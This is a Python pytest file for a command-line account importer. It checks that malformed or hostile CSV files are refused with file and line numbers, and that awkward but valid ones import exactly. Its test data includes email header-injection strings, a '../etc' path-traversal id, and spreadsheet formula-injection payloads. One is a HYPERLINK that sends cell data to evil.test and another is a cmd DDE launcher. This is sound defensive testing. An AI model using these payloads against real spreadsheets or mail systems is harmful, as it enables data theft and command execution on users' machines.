"""Known-bad (and awkward but valid) account files: exit 1 with file:line and nothing imported,
or a clean import with exactly the expected data."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from tests import fuzz_settings
from tests.fuzz_settings import count
from tests.test_fuzz_loaders import make_store, store_dump

HEADER = "id,name,plan,tags,created_at,status,admins"
ROW_A = "acc-a,Alpha,free,eu,2016-01-01,active,ops@alpha.test"
ROW_B = "acc-b,Beta,enterprise,,2016-01-02,active,it@beta.test"


def csv_text(*rows: str, header: str = HEADER, end: str = "\n") -> str:
    return end.join([header, *rows]) + end


BAD: list[tuple[str, str | bytes, int, str]] = [
    (
        "missing-column",
        csv_text(
            "acc-a,Alpha,free,eu,2016-01-01,active", header="id,name,plan,tags,created_at,status"
        ),
        1,
        "missing column(s) admins",
    ),
    (
        "extra-column",
        csv_text(ROW_A + ",x", header=HEADER + ",extra"),
        1,
        "unknown column(s) extra",
    ),
    (
        "duplicate-column",
        csv_text(ROW_A + ",x", header=HEADER + ",plan"),
        1,
        "duplicate column(s) plan",
    ),
    (
        "too-few-values",
        csv_text(ROW_A, "acc-b,Beta,free"),
        3,
        "3 values but the header has 7 columns",
    ),
    ("too-many-values", csv_text(ROW_A + ",surplus"), 2, "8 values but the header has 7 columns"),
    (
        "duplicate-ids",
        csv_text(ROW_A, ROW_B, ROW_A.replace("Alpha", "Alpha 2")),
        4,
        "duplicate account id 'acc-a' (lines 2, 4)",
    ),
    (
        "email-with-crlf",
        csv_text('acc-a,Alpha,free,,2016-01-01,active,"ops@alpha.test\r\nBcc: x@evil.test"'),
        2,
        "contains spaces or control characters",
    ),
    (
        "email-with-lf",
        csv_text('acc-a,Alpha,free,,2016-01-01,active,"ops@alpha.test\nBcc: x@evil.test"'),
        2,
        "contains spaces or control characters",
    ),
    (
        "email-display-name",
        csv_text('acc-a,Alpha,free,,2016-01-01,active,"Evil <x@evil.test>"'),
        2,
        "contains spaces or control characters",
    ),
    (
        "email-two-ats",
        csv_text("acc-a,Alpha,free,,2016-01-01,active,a@b@c.test"),
        2,
        "is not an email address",
    ),
    (
        "email-non-ascii-local",
        csv_text("acc-a,Alpha,free,,2016-01-01,active,jörg@x.test"),
        2,
        "ASCII only",
    ),
    (
        "cp1252-bytes",
        csv_text(ROW_A, "acc-b,Caf\u00e9,free,,2016-01-02,active,x@y.test").encode("cp1252"),
        3,
        "not valid UTF-8 (byte 0xe9",
    ),
    ("utf16", csv_text(ROW_A).encode("utf-16"), 1, "not valid UTF-8"),
    ("truncated-quoted-last-line", csv_text(ROW_A) + 'acc-b,"Beta', 3, "invalid CSV"),
    (
        "truncated-last-line",
        csv_text(ROW_A) + "acc-b,Beta,fr",
        3,
        "3 values but the header has 7 columns",
    ),
    ("nul-in-name", csv_text("acc-a,Al\x00pha,free,,2016-01-01,active,ops@alpha.test"), 2, "NUL"),
    ("bad-date", csv_text("acc-a,Alpha,free,,2016-13-01,active,ops@alpha.test"), 2, "created_at"),
    (
        "bad-status",
        csv_text("acc-a,Alpha,free,,2016-01-01,deleted,ops@alpha.test"),
        2,
        "'deleted' is not one of active, closed",
    ),
    (
        "id-traversal",
        csv_text("../etc,Alpha,free,,2016-01-01,active,ops@alpha.test"),
        2,
        "is not a valid account id",
    ),
    (
        "formula-in-id",
        csv_text('"=HYPERLINK(""http://evil.test"",""x"")",A,free,,2016-01-01,active,a@b.test'),
        2,
        "is not a valid account id",
    ),
    ("empty-file", "", 1, "file is empty"),
    (
        "bad-line-after-multiline-name",
        csv_text(
            'acc-a,"two\nlines",free,,2016-01-01,active,ops@alpha.test',
            "acc-b,Beta,free,,nope,active,x@y.test",
        ),
        4,
        "created_at",
    ),
]


@pytest.mark.parametrize(
    ("content", "line", "fragment"), [c[1:] for c in BAD], ids=[c[0] for c in BAD]
)
def test_bad_accounts_file_is_refused(
    tmp_path: Path, runner: Any, content: str | bytes, line: int, fragment: str
) -> None:
    db = make_store(tmp_path)
    path = tmp_path / "accounts.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    before = store_dump(db)
    count("accounts csv (known-bad table)")
    r = runner("--db", db, "accounts", "import", path)
    err = r.stderr.replace("\n", "")
    assert r.exit_code == 1, r.output
    assert isinstance(r.exception, SystemExit), repr(r.exception)
    assert fragment in err, err
    assert f"{path}:{line}" in err, err
    assert "nothing was imported" in err
    assert store_dump(db) == before


def _rows(db: Path, sql: str) -> list[tuple[Any, ...]]:
    conn = sqlite3.connect(db)
    try:
        return conn.execute(sql).fetchall()
    finally:
        conn.close()


def _import(tmp_path: Path, runner: Any, content: str | bytes) -> tuple[Path, Any]:
    db = tmp_path / "fresh.db"
    path = tmp_path / "accounts.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    count("accounts csv (known-awkward table)")
    r = runner("--db", db, "accounts", "import", path)
    assert r.exit_code == 0, r.output
    return db, r


def test_bom_and_crlf(tmp_path: Path, runner: Any) -> None:
    db, _ = _import(tmp_path, runner, b"\xef\xbb\xbf" + csv_text(ROW_A, ROW_B, end="\r\n").encode())
    assert _rows(db, "SELECT id, name FROM accounts ORDER BY id") == [
        ("acc-a", "Alpha"),
        ("acc-b", "Beta"),
    ]


def test_newline_in_quoted_field_is_kept_as_data(tmp_path: Path, runner: Any) -> None:
    db, _ = _import(
        tmp_path,
        runner,
        csv_text('acc-a,"two\nlines",free,,2016-01-01,active,ops@alpha.test', ROW_B),
    )
    assert _rows(db, "SELECT name FROM accounts WHERE id='acc-a'") == [("two\nlines",)]


def test_same_email_in_different_case_is_one_administrator(tmp_path: Path, runner: Any) -> None:
    db, _ = _import(
        tmp_path,
        runner,
        csv_text(
            "acc-a,Alpha,free,,2016-01-01,active,OPS@Alpha.Test;ops@alpha.test",
            "acc-b,Beta,free,,2016-01-01,active,Ops@ALPHA.test",
        ),
    )
    assert _rows(db, "SELECT DISTINCT email FROM account_admins") == [("ops@alpha.test",)]
    assert _rows(db, "SELECT count(*) FROM account_admins") == [(2,)]


def test_internationalised_domain_is_stored_as_punycode(tmp_path: Path, runner: Any) -> None:
    db, _ = _import(
        tmp_path, runner, csv_text("acc-a,Alpha,free,,2016-01-01,active,Ops@Bücher.Example")
    )
    assert _rows(db, "SELECT email FROM account_admins") == [("ops@xn--bcher-kva.example",)]


def test_account_without_administrator_is_imported_with_a_warning(
    tmp_path: Path, runner: Any
) -> None:
    _, r = _import(tmp_path, runner, csv_text("acc-a,Alpha,free,,2016-01-01,active,", ROW_B))
    assert "1 active account(s) have no administrator" in r.stderr.replace("\n", " ")


FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_stored_and_shown_as_plain_text(
    tmp_path: Path, runner: Any, formula: str
) -> None:
    """No `accounts export` exists yet (gap); list --json and show must return the text as is."""
    quoted = '"' + formula.replace('"', '""') + '"'
    db, _ = _import(
        tmp_path, runner, csv_text(f"acc-a,{quoted},free,,2016-01-01,active,ops@alpha.test")
    )
    listed = runner("--db", db, "accounts", "list", "--json")
    assert listed.exit_code == 0
    (acc,) = json.loads(listed.stdout)["accounts"]
    assert acc["name"] == formula
    shown = runner("--db", db, "accounts", "show", "acc-a", "--json")
    assert json.loads(shown.stdout)["name"] == formula
    text = runner("--db", db, "accounts", "show", "acc-a")
    assert text.exit_code == 0 and formula in text.stdout.replace("\n", "")


def test_importing_twice_changes_nothing(tmp_path: Path, runner: Any) -> None:
    from tests.test_fuzz_loaders import data_dump

    db, _ = _import(tmp_path, runner, csv_text(ROW_A, ROW_B))
    once = data_dump(db)
    again = runner("--db", db, "accounts", "import", tmp_path / "accounts.csv", "--json")
    assert json.loads(again.stdout)["unchanged"] == 2
    assert data_dump(db) == once


assert fuzz_settings.PROFILE
